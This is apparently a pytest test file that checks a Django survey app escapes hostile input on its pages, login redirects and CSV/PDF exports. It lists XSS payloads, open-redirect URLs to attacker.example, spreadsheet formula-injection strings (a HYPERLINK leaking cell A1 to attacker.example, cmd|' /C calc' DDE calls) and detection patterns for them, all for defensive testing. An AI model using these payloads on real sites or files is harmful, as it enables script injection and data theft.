"""Hostile text in every field a person can fill (roster, questions, rounds, comments, always-open feedback) is shown
only as text: on every page each role can reach, and in the CSV and PDF exports, where it is also kept from running
as a spreadsheet formula.
"""

import csv
import io
import re
import unicodedata
from dataclasses import dataclass, field
from html.parser import HTMLParser
from urllib.parse import quote, urlparse

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.template import Context, Template
from django.test import Client
from django.urls import reverse
from django.utils.html import escape

from reports.exports import spreadsheet_safe
from surveys.forms import field_name
from tests import hostile
from tests.test_exports import pdf_text

# Each one tries to leave the text it is put in: an element, an attribute (either quote), a textarea, a title,
# a URL, the template language, or the parser itself (full-width brackets, a right-to-left override).
XSS_PAYLOADS = (
    "<script>alert('xss-script')</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert('xss-url')",
    "<svg onload=alert(2)>",
    "' onmouseover='alert(3)' x='",
    '" onfocus="alert(4)" autofocus="',
    "</textarea><script>alert(5)</script>",
    "{{ 'xq_ran'|upper }}{% filter upper %}xq_ran{% endfilter %}",
    "\uff1cscript\uff1ealert(6)\uff1c/script\uff1e",
    "\u202e<b onclick=alert(7)>gnp.exe</b>",
    '<a href="javascript:alert(8)">click</a>',
    "</title></option></select><iframe src=javascript:alert(9)>",
)
# What a page would show had the template language run a payload instead of printing it.
TEMPLATE_RAN = "XQ_RAN"  # the underscore keeps it apart from receipt codes, which are upper case too
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background"}
FORBIDDEN_TAGS = {"iframe", "object", "embed", "base", "frame", "svg", "math"}


@pytest.fixture
def small_open_feedback(settings):
    """k=3 and one comment a month each, so that sixteen people make always-open themes."""
    settings.CANDOR_OPEN_FEEDBACK_K = hostile.K
    settings.CANDOR_OPEN_FEEDBACK_MONTHLY_LIMIT = 1


@pytest.fixture
def organisation(db, small_open_feedback):
    return hostile.organisation_built(XSS_PAYLOADS)


# --- reading a page as a browser would ---------------------------------------------------------------------------


@dataclass
class PageParts:
    tags: list[tuple[str, dict]] = field(default_factory=list)
    text: list[str] = field(default_factory=list)
    inline_scripts: list[str] = field(default_factory=list)


class _Reader(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.parts = PageParts()
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        attributes = {name: value or "" for name, value in attrs}
        self.parts.tags.append((tag, attributes))
        self._in_script = tag == "script" and "src" not in attributes

    def handle_endtag(self, tag):
        self._in_script = False

    def handle_data(self, data):
        (self.parts.inline_scripts if self._in_script else self.parts.text).append(data)


def page_parts(html: str) -> PageParts:
    reader = _Reader()
    reader.feed(html)
    reader.close()
    return reader.parts


def _scheme(url: str) -> str:
    """What a browser takes as the scheme: it ignores control characters and spaces around and inside it."""
    squeezed = re.sub(r"[\x00-\x20]", "", url).lower()
    return squeezed.split(":", 1)[0] if ":" in squeezed else ""


def _our_script(attributes: dict) -> bool:
    """A static file of ours, or data for a chart (``json_script``), which a browser does not run."""
    return attributes.get("src", "").startswith("/static/") or attributes.get("type") == "application/json"


def script_problems(html: str) -> list[str]:
    """Every way the page could run script that is not one of our own static files."""
    parts = page_parts(html)
    problems = []
    for tag, attributes in parts.tags:
        problems += [f"<{tag} {name}=…>" for name in attributes if name.startswith("on")]
        problems += [
            f"<{tag} {name}={value!r}>"
            for name, value in attributes.items()
            if name in URL_ATTRIBUTES and _scheme(value) in ("javascript", "vbscript", "data")
        ]
        if tag in FORBIDDEN_TAGS:
            problems.append(f"<{tag}>")
        if tag == "script" and not _our_script(attributes):
            problems.append(f"<script {attributes}>")
        if tag == "meta" and attributes.get("http-equiv", "").lower() == "refresh":
            problems.append("<meta http-equiv=refresh>")
    if re.search(r"<script>|<img src=x|<svg onload|<iframe", html, re.IGNORECASE):
        problems.append("raw markup from a payload")
    if TEMPLATE_RAN in "".join(parts.text):
        problems.append("a payload ran as a template")
    return problems


def payloads_shown(html: str) -> set[str]:
    """The payloads a reader sees written out on the page, as text or as a form field's value."""
    parts = page_parts(html)
    shown = " ".join(parts.text) + " ".join(v for _, attributes in parts.tags for v in attributes.values())
    return {payload.strip() for payload in XSS_PAYLOADS if payload.strip() in shown}


def csp_problems(response) -> list[str]:
    directives = [directive.split(" ", 1) for directive in response["Content-Security-Policy"].split("; ")]
    policy = {directive[0]: directive[-1] for directive in directives}
    problems = []
    if policy.get("script-src") != "'self'":
        problems.append(f"script-src is {policy.get('script-src')!r}")
    if policy.get("default-src") != "'none'":
        problems.append(f"default-src is {policy.get('default-src')!r}")
    if policy.get("base-uri") != "'none'":
        problems.append("base-uri is not 'none'")
    return problems


def assert_shown_only_as_text(response, *, at_least: int = 1):
    html = response.content.decode()
    assert response.status_code == 200, response.status_code
    assert script_problems(html) == []
    assert csp_problems(response) == []
    assert len(payloads_shown(html)) >= at_least, "the page shows none of the hostile text, so proves nothing"


def _unescaped_contexts(payload: str) -> list[str]:
    """The payload dropped, unescaped, into each place a template puts text; or after a careless normalisation."""
    return [
        f"<p>{payload}</p>",
        f'<input value="{payload}">',
        f"<input value='{payload}'>",
        f'<a href="{payload}">x</a>',
        f"<textarea>{payload}</textarea>",
        f"<title>{payload}</title><p>x</p>",
        f"<p>{unicodedata.normalize('NFKC', payload)}</p>",
        Template(f"<p>{payload}</p>").render(Context()),
    ]


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_the_checks_catch_each_payload_where_it_would_run_unescaped(payload):
    """Without this, a check that sees nothing would let every page test pass."""
    caught = [html for html in _unescaped_contexts(payload) if script_problems(html)]

    assert caught != []


def test_the_checks_find_nothing_in_escaped_payloads():
    escaped = "".join(f'<p title="{escape(p)}">{escape(p)}</p><textarea>{escape(p)}</textarea>' for p in XSS_PAYLOADS)

    assert script_problems(escaped) == []
    assert payloads_shown(escaped) == {payload.strip() for payload in XSS_PAYLOADS}


# --- the pages ---------------------------------------------------------------------------------------------------


def logged_in(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def _hr_round_urls(organisation) -> list[str]:
    round, extra = organisation.closed_round, organisation.extra_key
    department = organisation.payloads[0]
    base = reverse("reports:round", args=[round.id])
    return [
        base,
        f"{base}?by=department",
        f"{base}?by=location",
        f"{base}?by={extra}",
        f"{base}?group=department:{quote(department)}&by={extra}",
        f"{base}?group={quote(XSS_PAYLOADS[1])}&by={quote(XSS_PAYLOADS[0])}",  # reflected back, if anything
    ]


def hr_pages(organisation) -> list[str]:
    return [
        reverse("reports:home"),
        *_hr_round_urls(organisation),
        reverse("reports:trends"),
        reverse("reports:open_feedback"),
        reverse("reports:what_hr_sees"),
    ]


def admin_pages(organisation) -> list[str]:
    rounds_ = (organisation.closed_round, organisation.open_round, organisation.draft_round)
    return [
        reverse("surveys:manage_home"),
        reverse("surveys:question_list"),
        *(reverse("surveys:question_edit", args=[question.id]) for question in organisation.library),
        reverse("surveys:round_new"),
        *(reverse("surveys:round_detail", args=[round.id]) for round in rounds_),
        reverse("surveys:round_open", args=[organisation.draft_round.id]),
        reverse("surveys:round_close", args=[organisation.open_round.id]),
        reverse("surveys:roster"),
        reverse("surveys:roster_import_preview", args=[organisation.pending_import.id]),
    ]


def employee_pages(organisation) -> list[str]:
    return [
        reverse("surveys:employee_home"),
        reverse("surveys:round_answer", args=[organisation.open_round.id]),
        reverse("reports:results"),
        reverse("reports:round_results", args=[organisation.closed_round.id]),
    ]


def test_hr_pages_show_hostile_roster_question_and_round_text_only_as_text(organisation, hr):
    client = logged_in(hr)

    for url in hr_pages(organisation):
        assert_shown_only_as_text(client.get(url), at_least=0 if "open-feedback" in url else 1)
    heatmap = client.get(_hr_round_urls(organisation)[1]).content.decode()
    assert payloads_shown(heatmap) == {payload.strip() for payload in XSS_PAYLOADS}


def test_admin_pages_show_hostile_text_only_as_text(organisation, admin):
    client = logged_in(admin)

    for url in admin_pages(organisation):
        assert_shown_only_as_text(client.get(url))


def test_employee_pages_show_hostile_text_only_as_text(organisation):
    client = logged_in(organisation.employee)

    for url in employee_pages(organisation):
        assert_shown_only_as_text(client.get(url))


def _round_answers_posted(organisation, comment: str, **extra) -> dict:
    round = organisation.open_round
    data = {}
    for question, value in hostile.answers_for(round, 0, comment):
        data[field_name(question)] = [str(item) for item in value] if isinstance(value, list) else str(value)
    return data | extra


@pytest.mark.parametrize("comment", XSS_PAYLOADS)
def test_the_preview_shows_the_employees_own_hostile_comment_only_as_text(organisation, comment):
    url = reverse("surveys:round_answer", args=[organisation.open_round.id])

    response = logged_in(organisation.employee).post(url, _round_answers_posted(organisation, comment))

    assert "preview" in response.context
    assert_shown_only_as_text(response)
    assert comment.strip() in payloads_shown(response.content.decode())


def test_the_answer_form_sent_back_to_edit_keeps_the_hostile_comment_as_text(organisation):
    url = reverse("surveys:round_answer", args=[organisation.open_round.id])
    data = _round_answers_posted(organisation, XSS_PAYLOADS[6], action="edit")

    assert_shown_only_as_text(logged_in(organisation.employee).post(url, data))


def test_the_receipt_after_a_hostile_answer_shows_it_only_as_text(organisation):
    url = reverse("surveys:round_answer", args=[organisation.open_round.id])
    data = _round_answers_posted(organisation, XSS_PAYLOADS[0], action="submit")

    response = logged_in(organisation.employee).post(url, data)

    assert "code" in response.context
    assert_shown_only_as_text(response, at_least=0)  # the receipt repeats nothing the employee wrote


@pytest.mark.parametrize("action", ["preview", "submit"])
def test_always_open_feedback_shows_a_hostile_comment_only_as_text(organisation, action):
    data = {"topic": "", "text": " ".join(XSS_PAYLOADS[:4]), "action": action}

    response = logged_in(organisation.employee).post(reverse("surveys:open_feedback"), data)

    assert ("code" if action == "submit" else "preview") in response.context
    assert script_problems(response.content.decode()) == []
    assert csp_problems(response) == []


# --- text a request sends back: messages, form errors, the public pages ------------------------------------------


def test_the_message_after_archiving_a_hostile_question_shows_it_only_as_text(organisation, admin):
    question = organisation.library[0]

    response = logged_in(admin).post(reverse("surveys:question_archive", args=[question.id]), follow=True)

    assert_shown_only_as_text(response)
    assert "Archived" in response.content.decode()


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_a_hostile_value_sent_back_in_a_form_error_stays_text(payload, admin):
    response = logged_in(admin).post(reverse("surveys:question_new"), {"text": payload, "kind": payload})

    assert response.context["form"].errors
    assert script_problems(response.content.decode()) == []


def test_roster_file_errors_quote_hostile_cells_only_as_text(admin):
    header = ",".join(["email", "name", "department", "location", "level", "start_date", XSS_PAYLOADS[0]])
    line = ",".join([XSS_PAYLOADS[3], "Ada", "Sales", "Paris", "3", XSS_PAYLOADS[1].replace('"', "'")])
    upload = SimpleUploadedFile("roster.csv", f"{header},{XSS_PAYLOADS[0]}\n{line}\n".encode())

    response = logged_in(admin).post(reverse("surveys:roster"), {"roster_file": upload})

    assert response.context["errors"]
    assert script_problems(response.content.decode()) == []
    assert payloads_shown(response.content.decode())


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_the_public_receipt_check_sends_back_a_hostile_code_only_as_text(payload, client, db):
    response = client.post(reverse("feedback:receipt_check"), {"code": payload[:40]})

    assert response.status_code == 200
    assert script_problems(response.content.decode()) == []
    assert csp_problems(response) == []


def test_a_hostile_path_is_not_echoed_by_the_not_found_page(client, db):
    response = client.get("/" + quote(XSS_PAYLOADS[0]) + "/")

    assert response.status_code == 404
    assert script_problems(response.content.decode()) == []


@pytest.mark.parametrize(
    "next_url", ["javascript:alert(1)", " javascript:alert(1)", "//attacker.example/", "https://attacker.example/"]
)
def test_logging_in_never_follows_a_script_or_foreign_next_url(next_url, employee, client):
    employee.set_password("a long passphrase 1")
    employee.save()
    login = reverse("account_login") + "?next=" + quote(next_url)

    page = client.get(login)
    response = client.post(login, {"login": employee.email, "password": "a long passphrase 1", "next": next_url})

    assert script_problems(page.content.decode()) == []
    assert response.status_code == 302
    assert urlparse(response["Location"]).scheme == ""
    assert urlparse(response["Location"]).netloc == ""
    assert response["Location"].startswith("/")


# --- exports -----------------------------------------------------------------------------------------------------

EXPORT_VIEWS = ("reports:round_export", "reports:trends_export", "reports:open_feedback_export")


def export_urls(organisation, export: str) -> list[str]:
    round = organisation.closed_round
    return [
        reverse("reports:round_export", args=[round.id, export]),
        reverse("reports:round_export", args=[round.id, export]) + "?by=department",
        reverse("reports:round_export", args=[round.id, export]) + f"?by={organisation.extra_key}",
        reverse("reports:trends_export", args=[export]),
        reverse("reports:open_feedback_export", args=[export]),
    ]


def csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for cell in row]


def test_csv_exports_carry_hostile_text_as_plain_cells_a_browser_will_not_render(organisation, hr):
    client = logged_in(hr)

    for url in export_urls(organisation, "csv"):
        response = client.get(url)
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        assert response["Content-Disposition"].startswith("attachment;")
        assert response["X-Content-Type-Options"] == "nosniff"
    round_cells = csv_cells(client.get(export_urls(organisation, "csv")[1]).content)
    assert {spreadsheet_safe(payload.strip()) for payload in XSS_PAYLOADS[:4]} <= set(round_cells)


def test_pdf_exports_draw_hostile_text_as_text_and_hold_no_link_or_script(organisation, hr):
    client = logged_in(hr)

    for url in export_urls(organisation, "pdf"):
        pdf = client.get(url).content
        assert pdf.startswith(b"%PDF")
        assert re.findall(rb"/JavaScript|/JS\b|/URI|/Launch|/OpenAction|/AA\b", pdf) == []
    drawn = pdf_text(client.get(export_urls(organisation, "pdf")[1]).content)
    assert XSS_PAYLOADS[0] in drawn


# --- formula injection -------------------------------------------------------------------------------------------

FORMULA_PAYLOADS = (
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=3+4",
    "@cmd",
    "-cmd",
)


# OWASP's list, written out here rather than read from reports.exports, so that dropping one there fails here.
OWASP_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
SIGNED_NUMBER = re.compile(r"[+-]?[0-9]+(?:[.,][0-9]+)*%?")


@pytest.fixture
def formula_organisation(db, small_open_feedback):
    return hostile.organisation_built(FORMULA_PAYLOADS)


def risky(cells: list[str]) -> list[str]:
    return [cell for cell in cells if cell.startswith(OWASP_TRIGGERS) and not SIGNED_NUMBER.fullmatch(cell)]


def test_no_exported_csv_cell_starts_a_formula(formula_organisation, hr):
    client = logged_in(hr)

    exported = {url: csv_cells(client.get(url).content) for url in export_urls(formula_organisation, "csv")}

    assert {url: risky(cells) for url, cells in exported.items()} == {url: [] for url in exported}
    shown = {cell for cells in exported.values() for cell in cells}
    # Every input path trims a leading tab or carriage return; what is left must still be neutralised.
    assert {"'" + payload.strip() for payload in FORMULA_PAYLOADS} <= shown


def test_negative_numbers_stay_numbers_in_the_exported_csv(formula_organisation, hr):
    cells = csv_cells(logged_in(hr).get(export_urls(formula_organisation, "csv")[0]).content)

    assert any(re.fullmatch(r"-[0-9]+", cell) for cell in cells), "the NPS of this round is negative"


@pytest.mark.parametrize("trigger", OWASP_TRIGGERS)
def test_every_formula_trigger_is_neutralised(trigger):
    assert spreadsheet_safe(f"{trigger}cmd|' /C calc'!A0") == f"'{trigger}cmd|' /C calc'!A0"
